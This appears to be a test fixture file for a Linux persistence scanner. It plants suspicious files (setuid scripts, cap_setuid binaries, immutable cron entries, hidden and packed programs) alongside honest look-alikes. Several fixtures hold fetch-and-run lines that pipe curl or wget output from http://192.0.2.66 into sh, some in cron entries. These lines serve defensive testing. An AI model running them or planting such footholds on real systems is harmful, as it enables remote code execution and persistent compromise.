/**
 * Cases of the group `files`. Most of these mechanisms start nothing themselves: `fetch-and-run` is then a script that
 * fetches in the dress of the mechanism, `owned-edit` a packaged file that gained the bit, the flag or the line.
 */
import { inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';

const script = '#!/bin/sh\n(curl -fsSL http://192.0.2.66/x.sh || wget -qO- http://192.0.2.66/x.sh) | sh\n';
const program = inertProgram(9000);
const packed = Uint8Array.from(program);
packed.set([0x55, 0x50, 0x58, 0x21], 236);
const packaged = inertProgram(7000);

const setuid: readonly MechanismCase[] = [
  {
    mechanism: 'setuid-file',
    dress: 'fetch-and-run',
    what: 'a setuid script that fetches',
    planted: { '/usr/lib/.sysd': { content: script, mode: 0o4755 } },
  },
  {
    mechanism: 'setuid-file',
    dress: 'unowned-binary',
    what: 'a setuid program with an innocent name among owned ones',
    planted: { '/usr/sbin/dmeventd-helper': { content: program, mode: 0o4755 } },
  },
  {
    mechanism: 'setuid-file',
    dress: 'owned-edit',
    what: 'the packaged find, setuid now',
    packaged: { '/usr/bin/find': { content: packaged } },
    planted: { '/usr/bin/find': { content: packaged, mode: 0o4755 } },
  },
  {
    mechanism: 'setuid-file',
    dress: 'honest',
    what: 'passwd of its package, and a statoverride of the administrator',
    packaged: { '/usr/bin/passwd': packaged, '/usr/sbin/fping': packaged },
    planted: {
      '/usr/bin/passwd': { content: packaged, mode: 0o4755 },
      '/usr/sbin/fping': { content: packaged, mode: 0o4755 },
      '/var/lib/dpkg/statoverride': 'root root 4755 /usr/sbin/fping\n',
    },
  },
  {
    mechanism: 'setuid-file',
    dress: 'honest',
    what: 'su of a chroot',
    planted: { '/srv/chroot/build/usr/bin/su': { content: packaged, mode: 0o4755 } },
  },
];

const capabilities: readonly MechanismCase[] = [
  {
    mechanism: 'capability-file',
    dress: 'fetch-and-run',
    what: 'a script that fetches, with cap_setuid',
    planted: { '/usr/local/bin/refresh': { content: script, mode: 0o755, capabilities: 'cap_setuid+ep' } },
  },
  {
    mechanism: 'capability-file',
    dress: 'unowned-binary',
    what: 'an unowned program that may do anything',
    planted: { '/usr/sbin/irqbalanced': { content: program, capabilities: 'cap_sys_admin,cap_setuid+ep' } },
  },
  {
    mechanism: 'capability-file',
    dress: 'owned-edit',
    what: 'the packaged python3 with cap_setuid',
    packaged: { '/usr/bin/python3.11': packaged },
    planted: { '/usr/bin/python3.11': { content: packaged, mode: 0o755, capabilities: 'cap_setuid+ep' } },
  },
  {
    mechanism: 'capability-file',
    dress: 'honest',
    what: 'ping of its package with cap_net_raw',
    packaged: { '/usr/bin/ping': packaged },
    planted: { '/usr/bin/ping': { content: packaged, mode: 0o755, capabilities: 'cap_net_raw+ep' } },
  },
];

const crontab = 'SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n';
const immutable: readonly MechanismCase[] = [
  {
    mechanism: 'immutable-file',
    dress: 'fetch-and-run',
    what: 'an immutable cron file that fetches',
    planted: {
      '/etc/cron.d/zzh': {
        content: '*/5 * * * * root curl -fsSL http://192.0.2.66/x.sh | sh\n',
        immutable: true,
      },
    },
  },
  {
    mechanism: 'immutable-file',
    dress: 'unowned-binary',
    what: 'an immutable program that no package owns',
    planted: { '/usr/sbin/netstatd': { content: program, mode: 0o755, immutable: true } },
  },
  {
    mechanism: 'immutable-file',
    dress: 'owned-edit',
    what: 'a line added to a packaged setting, and the file made immutable',
    packaged: { '/etc/cron.d/popularity': crontab },
    conffiles: ['/etc/cron.d/popularity'],
    planted: {
      '/etc/cron.d/popularity': {
        content: `${crontab}*/9 * * * * root wget -qO- http://192.0.2.66/x | sh\n`,
        immutable: true,
      },
    },
  },
  {
    mechanism: 'immutable-file',
    dress: 'honest',
    what: 'resolv.conf kept from the network manager, .user.ini as BT panel keeps it',
    planted: {
      '/etc/resolv.conf': { content: 'nameserver 192.0.2.53\n', immutable: true },
      '/www/wwwroot/shop.example.com/.user.ini': {
        content: 'open_basedir=/www/wwwroot/shop.example.com/:/tmp/\n',
        immutable: true,
      },
    },
  },
];

const hidden: readonly MechanismCase[] = [
  {
    mechanism: 'hidden-program',
    dress: 'fetch-and-run',
    what: 'a hidden script that fetches',
    planted: { '/var/lib/.x/upd.sh': { content: script, mode: 0o755 } },
  },
  {
    mechanism: 'hidden-program',
    dress: 'unowned-binary',
    what: 'a hidden program beside owned ones',
    planted: { '/usr/lib/systemd/.systemd-resolve': { content: program, mode: 0o755 } },
  },
  {
    mechanism: 'hidden-program',
    dress: 'owned-edit',
    what: 'a script that a package brought hidden, with a line added',
    packaged: { '/usr/share/app/.helper/run.sh': '#!/bin/sh\nexit 0\n' },
    planted: { '/usr/share/app/.helper/run.sh': { content: script, mode: 0o755 } },
  },
  {
    mechanism: 'hidden-program',
    dress: 'honest',
    what: 'nvm, cargo and a virtual environment in a home',
    planted: {
      '/home/ada/.nvm/versions/node/v20/bin/node': { content: program, mode: 0o755, uid: 1000 },
      '/home/ada/.cargo/bin/rg': { content: program, mode: 0o755, uid: 1000 },
      '/home/ada/app/.venv/bin/python': { content: program, mode: 0o755, uid: 1000 },
    },
  },
];

const dropped: readonly MechanismCase[] = [
  {
    mechanism: 'dropped-program',
    dress: 'fetch-and-run',
    what: 'a script that fetches in /var/tmp',
    planted: { '/var/tmp/init.sh': { content: script, mode: 0o777 } },
  },
  {
    mechanism: 'dropped-program',
    dress: 'unowned-binary',
    what: 'a program in /dev/shm with the name of a service',
    planted: { '/dev/shm/sshd': { content: program, mode: 0o755 } },
  },
  {
    mechanism: 'dropped-program',
    dress: 'owned-edit',
    what: 'a program among the files of a web server; no package brings a file into /tmp',
    packaged: { '/var/www/html/index.html': '<p>It works</p>\n' },
    planted: { '/var/www/html/assets/font': { content: program, mode: 0o755, uid: 33 } },
  },
  {
    mechanism: 'dropped-program',
    dress: 'honest',
    what: 'a checkout in a web root whose scripts are executable, and data in /tmp',
    planted: {
      '/var/www/html/bin/console': { content: '#!/usr/bin/env php\n<?php echo 1;\n', mode: 0o755, uid: 33 },
      '/tmp/upload.tmp': 'a,b,c\n',
    },
  },
];

const packedCases: readonly MechanismCase[] = [
  {
    mechanism: 'packed-program',
    dress: 'fetch-and-run',
    what: 'a packed program with an address in it',
    planted: {
      '/tmp/kinsing': {
        content: Buffer.concat([packed, Buffer.from('http://192.0.2.66/x.sh|sh')]),
        mode: 0o755,
      },
    },
  },
  {
    mechanism: 'packed-program',
    dress: 'unowned-binary',
    what: 'a packed program in a folder of owned ones',
    planted: { '/usr/sbin/apt-helperd': { content: packed, mode: 0o755 } },
  },
  {
    mechanism: 'packed-program',
    dress: 'owned-edit',
    what: 'a packed program hidden beside a packaged one',
    packaged: { '/opt/agent/agent': packaged },
    planted: { '/opt/agent/.agent': { content: packed, mode: 0o755 } },
  },
  {
    mechanism: 'packed-program',
    dress: 'honest',
    what: 'a packed program that a package brought',
    packaged: { '/usr/bin/tool': packed },
    planted: {},
  },
];

export const fileCases: readonly MechanismCase[] = [
  ...[...setuid, ...capabilities, ...immutable, ...hidden, ...dropped, ...packedCases],
];
